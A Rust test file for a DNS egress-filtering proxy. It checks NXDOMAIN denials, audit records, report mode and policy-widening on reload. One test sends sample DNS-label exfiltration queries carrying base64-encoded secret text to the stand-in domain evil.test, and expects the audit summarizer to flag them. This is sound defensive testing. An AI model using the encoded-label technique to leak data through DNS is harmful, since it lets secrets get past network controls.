//! Names the policy denies: NXDOMAIN with nothing asked upstream, one audit record per
//! lookup with its reason, report mode, and a policy a reload left widening.

use std::time::Duration;

use hickory_proto::op::ResponseCode;
use hickory_proto::rr::RecordType;
use serde_json::Value;

use super::{assert_dns_denial, org, synthetic, Jail};
use crate::lint::egress;
use crate::support::dns_client::{a_records, TcpClient, UdpClient};
use crate::support::org::Org;

#[tokio::test]
async fn a_denied_name_is_nxdomain_with_no_query_upstream_and_one_record() {
    let jail = Jail::start(org(), &[]).await;
    let mut udp = UdpClient::new(jail.dns).await;
    let m = udp.query("evil.test.", RecordType::A).await;
    assert_eq!(m.response_code(), ResponseCode::NXDomain);
    assert!(m.answers().is_empty());
    let mut tcp = TcpClient::connect(jail.dns).await;
    let m = tcp.query("evil-tcp.test.", RecordType::A).await;
    assert_eq!(m.response_code(), ResponseCode::NXDomain);

    let records = jail.proxy.expect_audit_count(2).await;
    let host = |r: &Value| r["host"].as_str().unwrap_or("").to_string();
    let evil = records.iter().find(|r| host(r) == "evil.test").unwrap();
    let by_tcp = records.iter().find(|r| host(r) == "evil-tcp.test").unwrap();
    for record in [evil, by_tcp] {
        let name = host(record);
        assert_dns_denial(record, &name, "not_in_org_allowlist", &jail.proxy);
        assert_eq!(record["policy_level"], "org");
        assert!(record["rule"].is_null());
    }
    assert_eq!(jail.upstream.queries_for("evil.test"), 0);
    jail.assert_nothing_upstream().await;
}

#[tokio::test]
async fn a_lookup_asking_a_and_aaaa_makes_one_record() {
    let jail = Jail::start(org(), &[]).await;
    let mut resolver = UdpClient::new(jail.dns).await;
    for qtype in [RecordType::A, RecordType::AAAA, RecordType::A] {
        let m = resolver.query("twice.test.", qtype).await;
        assert_eq!(m.response_code(), ResponseCode::NXDomain, "{qtype}");
    }
    let record = jail.proxy.single_audit().await;
    assert_dns_denial(&record, "twice.test", "not_in_org_allowlist", &jail.proxy);
    // Another socket is another lookup.
    let mut another = UdpClient::new(jail.dns).await;
    another.query("twice.test.", RecordType::A).await;
    jail.proxy.expect_audit_count(2).await;
}

#[tokio::test]
async fn a_denied_domain_and_an_invalid_name_give_their_reasons() {
    let org = org().allow("*.evil.test").deny("denied.evil.test");
    let jail = Jail::start(org, &[]).await;
    let mut udp = UdpClient::new(jail.dns).await;
    let m = udp.query("denied.evil.test.", RecordType::A).await;
    assert_eq!(m.response_code(), ResponseCode::NXDomain);
    let m = udp.query("10.1.2.3.", RecordType::A).await;
    assert_eq!(m.response_code(), ResponseCode::NXDomain);
    let records = jail.proxy.expect_audit_count(2).await;
    let denied = records
        .iter()
        .find(|r| r["reason"] == "denied_domain")
        .expect("a denied_domain record");
    assert_dns_denial(denied, "denied.evil.test", "denied_domain", &jail.proxy);
    assert_eq!(denied["rule"], "denied.evil.test");
    let invalid = records
        .iter()
        .find(|r| r["reason"] == "invalid_host")
        .expect("an invalid_host record");
    assert_dns_denial(invalid, "10.1.2.3", "invalid_host", &jail.proxy);
    jail.assert_nothing_upstream().await;
}

#[tokio::test]
async fn dns_label_exfiltration_is_denied_and_summarize_flags_it() {
    let jail = Jail::start(org(), &[]).await;
    let label = "aGVsbG8gd29ybGQgdGhpcyBpcyBleGZpbHRyYXRpb24gb2YgYSBzZWNyZXQ";
    let name = format!("{label}.evil.test.");
    let mut udp = UdpClient::new(jail.dns).await;
    let m = udp.query(&name, RecordType::A).await;
    assert_eq!(m.response_code(), ResponseCode::NXDomain);
    let split = "dGhpcyBp.cyBleGZp.bHRyYXRp.b24gb2Yg.YSBzZWNy.ZXQgaW4g.bWFueSBs.YWJlbHM.evil.test.";
    let m = udp.query(split, RecordType::TXT).await;
    assert_eq!(m.response_code(), ResponseCode::NXDomain);
    let records = jail.proxy.expect_audit_count(2).await;
    let host = label.to_ascii_lowercase() + ".evil.test";
    assert!(records.iter().any(|r| r["host"] == host.as_str()));
    jail.assert_nothing_upstream().await;

    let log = jail.proxy.audit_path.to_str().unwrap();
    let out = egress(&["audit", "summarize", "--format", "json", log]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let found = out.json()["suspected_exfiltration"].clone();
    let kinds_of = |h: &str| -> Vec<String> {
        found
            .as_array()
            .unwrap()
            .iter()
            .filter(|x| x["host"] == h)
            .map(|x| x["kind"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(kinds_of(&host), ["long_label"], "{found}");
    let split_host = split.to_ascii_lowercase();
    let split_host = split_host.trim_end_matches('.');
    assert_eq!(kinds_of(split_host), ["long_subdomain"], "{found}");
    let text = egress(&["audit", "summarize", log]).stdout;
    assert!(
        text.contains(&host) && text.contains("long_label"),
        "{text}"
    );
}

#[tokio::test]
async fn report_mode_answers_a_would_be_denial_and_audits_it() {
    let jail = Jail::start(org().mode("report"), &[]).await;
    let mut udp = UdpClient::new(jail.dns).await;
    let m = udp.query("evil.test.", RecordType::A).await;
    assert_eq!(m.response_code(), ResponseCode::NoError);
    assert!(synthetic(a_records(&m)[0]));
    let record = jail.proxy.single_audit().await;
    assert_eq!(record["event"], "egress.would_deny", "{record}");
    assert_eq!(record["via"], "dns");
    assert_eq!(record["method"], "DNS");
    assert!(record["port"].is_null());
    assert_eq!(record["reason"], "not_in_org_allowlist");
    jail.assert_nothing_upstream().await;
}

#[tokio::test]
async fn a_policy_left_widening_by_a_reload_is_servfail_and_audited() {
    let jail = Jail::start(org(), &[]).await;
    let mut udp = UdpClient::new(jail.dns).await;
    let m = udp.query("allowed.test.", RecordType::A).await;
    assert_eq!(m.response_code(), ResponseCode::NoError);
    // The reloaded organization no longer covers `other.test` of --policy.
    std::fs::write(
        jail.proxy.org_path(),
        Org::new().allow("allowed.test").to_toml(),
    )
    .unwrap();
    jail.proxy.hup();
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    loop {
        let m = udp.query("allowed.test.", RecordType::A).await;
        if m.response_code() == ResponseCode::ServFail {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "still answered: {m:?}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let record = jail
        .proxy
        .wait_audit(
            |r| r["reason"] == "policy_widening",
            crate::support::proxy::AUDIT_TIMEOUT,
        )
        .await;
    assert_dns_denial(&record, "allowed.test", "policy_widening", &jail.proxy);
    assert!(record["rule"].as_str().unwrap().contains("other.test"));
    jail.assert_nothing_upstream().await;
}
